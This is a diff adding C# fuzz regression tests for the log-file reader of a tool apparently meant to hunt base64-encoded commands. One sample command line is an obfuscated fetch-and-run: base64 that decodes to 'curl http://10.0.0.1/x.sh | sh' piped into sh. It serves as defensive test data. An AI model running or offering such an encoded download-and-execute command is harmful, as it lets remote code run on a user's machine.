@@ -1,0 +1,80 @@
+using System.Collections.Generic;
+using System.IO;
+using System.Linq;
+using System.Text;
+using System.Threading;
+using B64Hunt.Model;
+using B64Hunt.Sources;
+using Xunit;
+
+namespace B64Hunt.Tests.Fuzz
+{
+    /// <summary>The specific inputs the fuzzer found bugs with, kept as plain regression tests.</summary>
+    public sealed class FuzzRegressionTests
+    {
+        private const string Good1 = "echo aGVsbG8gd29ybGQ= | base64 -d";
+        private const string Good2 = "echo Y3VybCBodHRwOi8vMTAuMC4wLjEveC5zaCB8IHNo | base64 -d | sh";
+
+        private static (List<CommandRecord> Records, List<Problem> Problems) Read(byte[] content, string name)
+        {
+            var records = new List<CommandRecord>();
+            var problems = new List<Problem>();
+            using var stream = new MemoryStream(content);
+            foreach (var item in LogFileReader.Read(stream, name, new LogReadOptions(), new ReadStatistics(), CancellationToken.None))
+            {
+                if (item.Record != null) records.Add(item.Record);
+                else problems.Add(item.Problem!);
+            }
+            return (records, problems);
+        }
+
+        /// <summary>Bytes of <paramref name="text"/> with every '~' replaced by the invalid UTF-8 byte 0xFF.</summary>
+        private static byte[] WithInvalidUtf8(string text) =>
+            Encoding.UTF8.GetBytes(text).SelectMany(b => b == (byte)'~' ? new byte[] { 0xFF } : new[] { b }).ToArray();
+
+        [Fact]
+        public void JsonLinesInvalidUtf8InOneLineDoesNotEndTheFile()
+        {
+            // Found by jsonl-good-bad: GetString threw InvalidOperationException, the file ended with FileReadError.
+            var content = WithInvalidUtf8(
+                "{\"CommandLine\":\"" + Good1 + "\"}\n" +
+                "{\"CommandLine\":\"bad ~ text\"}\n" +
+                "{\"Comm~andLine\":\"x\"}\n" +
+                "{\"CommandLine\":\"" + Good2 + "\"}\n");
+            var (records, problems) = Read(content, "rows.jsonl");
+            Assert.Equal(new[] { Good1, Good2 }, records.Select(r => r.CommandLine));
+            Assert.Equal(new[] { "rows.jsonl:1", "rows.jsonl:4" }, records.Select(r => r.Source));
+            Assert.Equal(new[] { SourceErrorIds.MalformedJson, SourceErrorIds.MalformedJson }, problems.Select(p => p.ErrorId));
+            Assert.Equal(new object[] { "rows.jsonl:2", "rows.jsonl:3" }, problems.Select(p => p.Target));
+        }
+
+        [Fact]
+        public void JsonArrayInvalidUtf8InOneElementDoesNotEndTheFile()
+        {
+            var content = WithInvalidUtf8(
+                "[\n{\"CommandLine\":\"" + Good1 + "\"},\n" +
+                "{\"CommandLine\":\"bad ~ text\"},\n" +
+                "{\"CommandLine\":\"" + Good2 + "\"}\n]\n");
+            var (records, problems) = Read(content, "rows.json");
+            Assert.Equal(new[] { Good1, Good2 }, records.Select(r => r.CommandLine));
+            var problem = Assert.Single(problems);
+            Assert.Equal(SourceErrorIds.MalformedJson, problem.ErrorId);
+            Assert.Equal("rows.json:3", problem.Target);
+        }
+
+        [Fact]
+        public void LogAnalyticsRowWithInvalidUtf8CellDoesNotEndTheFile()
+        {
+            var content = WithInvalidUtf8(
+                "{\"tables\":[{\"name\":\"PrimaryResult\",\"columns\":[{\"name\":\"Computer\",\"type\":\"string\"},{\"name\":\"CommandLine\",\"type\":\"string\"}],\"rows\":[\n" +
+                "[\"h1\",\"" + Good1 + "\"],\n" +
+                "[\"h~2\",\"bad\"],\n" +
+                "[\"h3\",\"" + Good2 + "\"]\n]}]}\n");
+            var (records, problems) = Read(content, "la.json");
+            Assert.Equal(new[] { Good1, Good2 }, records.Select(r => r.CommandLine));
+            var problem = Assert.Single(problems);
+            Assert.Equal(SourceErrorIds.MalformedJson, problem.ErrorId);
+            Assert.Equal("la.json:3", problem.Target);
+        }
+    }
+}
